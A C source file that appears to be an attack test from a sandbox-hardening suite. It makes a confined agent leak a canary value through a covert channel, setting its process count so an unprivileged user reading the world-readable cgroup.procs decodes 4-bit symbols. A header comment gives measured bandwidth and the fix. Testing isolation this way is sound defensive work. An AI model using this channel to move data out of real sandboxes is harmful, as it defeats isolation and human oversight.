// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_cgroup_procs - [covert] the agent's own cgroup, world-readable. `mncctl run` makes the
 * agent's cgroup directory TREE/<agent>.<pid> mode 0755 (cmd_run.c) inside a tree any user may
 * search, so every user reads its cgroup.procs and cgroup.threads (the agent's pids and tids),
 * cgroup.stat and cpu.stat (the agent's CPU time in microseconds; memory.stat, memory.current,
 * pids.current and io.stat too where those controllers are enabled in the tree). Unlike
 * /proc/PID/status (threat model, "what remains open") this is not closed by hidepid=invisible,
 * the fix the threat model proposes for the /proc rows: the cgroup files are another view of
 * the same counts. The agent sets the number of its processes to each 4-bit symbol of the
 * canary's 12 hex digits (fork children that wait; kill and reap them), and waits at sync sN
 * while uid 65534 counts the lines of cgroup.procs (the base count is read at sync "z").
 * Verifier: the orchestrator finds the agent (the process whose exe is WS/.atk) and its cgroup
 * (/proc/PID/cgroup, as root: only to know where to look); uid 65534 reads cgroup.procs at each
 * sync; the 12 symbols read back as hex are the canary.
 * Would close it: the agent's cgroup directory (and the mnc tree) not searchable by others
 * (mkdir 0700; mncd and the launcher are root); covert channel, 4 bits per symbol at
 * fork/kill rate (measured on the CI host: 100 symbols set in 124-159 ms, i.e. ~2.5·10^3
 * bits/s before the reader's sampling), more with wider symbols, cgroup.threads or cpu.stat. */
#include <dirent.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

#include "atk.h"

static pid_t kids[16];
static int nkids;

static int set_count(struct atk_ctx *c, int v)
{
    while (nkids < v) {
        pid_t p = fork();
        if (p < 0) {
            atk_note(c, "fork: %s", atk_errname(errno));
            return -1;
        }
        if (p == 0) {
            for (;;)
                pause();
        }
        kids[nkids++] = p;
    }
    while (nkids > v) {
        pid_t p = kids[--nkids];
        kill(p, SIGKILL);
        waitpid(p, NULL, 0);
    }
    return 0;
}

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "z");
    for (int i = 0; i < 12; i++) {
        unsigned v;
        if (sscanf(c->secret + 2 + i, "%1x", &v) != 1 || set_count(c, (int)v) < 0)
            break;
        char tag[8];
        snprintf(tag, sizeof(tag), "s%d", i);
        atk_sync(c, tag);
    }
    set_count(c, 0);
    /* bandwidth: 100 symbols of 0..15 processes (each a fork or a kill+reap per step) */
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int i = 0; i < 100; i++)
        if (set_count(c, (i * 7) % 16) < 0)
            break;
    set_count(c, 0);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    long ms = (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000;
    atk_note(c, "12 symbols through the process count of the agent's cgroup; 100 symbols set in %ld ms", ms);
    return 0;
}

static char procs[1024]; /* the agent's cgroup.procs, found by the orchestrator (root) */

static int find_cgroup(struct atk_ctx *c)
{
    char want[700], p[300], exe[700], line[600];
    snprintf(want, sizeof(want), "%s/.atk", c->ws);
    const char *cg2 = getenv("ATK_CG2");
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (!found && d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        snprintf(p, sizeof(p), "/proc/%s/exe", e->d_name);
        ssize_t n = readlink(p, exe, sizeof(exe) - 1);
        if (n <= 0)
            continue;
        exe[n] = 0;
        if (strcmp(exe, want) != 0)
            continue;
        snprintf(p, sizeof(p), "/proc/%s/cgroup", e->d_name);
        FILE *f = fopen(p, "r");
        while (f && fgets(line, sizeof(line), f)) {
            if (strncmp(line, "0::", 3) == 0) {
                line[strcspn(line, "\n")] = 0;
                snprintf(procs, sizeof(procs), "%s%s/cgroup.procs", cg2 ? cg2 : "/sys/fs/cgroup", line + 3);
                found = 1;
            }
        }
        if (f)
            fclose(f);
    }
    if (d)
        closedir(d);
    return found;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    (void)c;
    FILE *f = fopen(procs, "r");
    if (!f) {
        snprintf(out, n, "open: %s", strerror(errno));
        return -1;
    }
    int lines = 0, ch;
    while ((ch = fgetc(f)) != EOF)
        lines += ch == '\n';
    fclose(f);
    snprintf(out, n, "%d", lines);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    char out[64];
    if (!procs[0] && !find_cgroup(c))
        return;
    out[0] = 0;
    atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)); /* fn's value is a 0/1 verdict: the count is in out */
    char *end;
    long lines = strtol(out, &end, 10);
    if (end == out || *end)
        return;
    if (strcmp(tag, "z") == 0) {
        c->slot[4] = lines;
        return;
    }
    int i = tag[0] == 's' ? atoi(tag + 1) : -1;
    if (i < 0 || i > 11)
        return;
    char *got = (char *)&c->slot[0]; /* 12 hex digits + NUL in slot[0..1] */
    long v = lines - c->slot[4];
    got[i] = v >= 0 && v < 16 ? "0123456789abcdef"[v] : '?';
    got[12] = 0;
    if (i == 11 && strncmp(got, c->canary + 2, 12) == 0)
        atk_evidence(c, "uid 65534 read the canary from the line count of the agent's cgroup.procs (%s)", procs);
}

static const struct atk A = {"covert_cgroup_procs",
                             "the process count in the agent's world-readable cgroup.procs, read by uid 65534",
                             ATK_COVERT,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
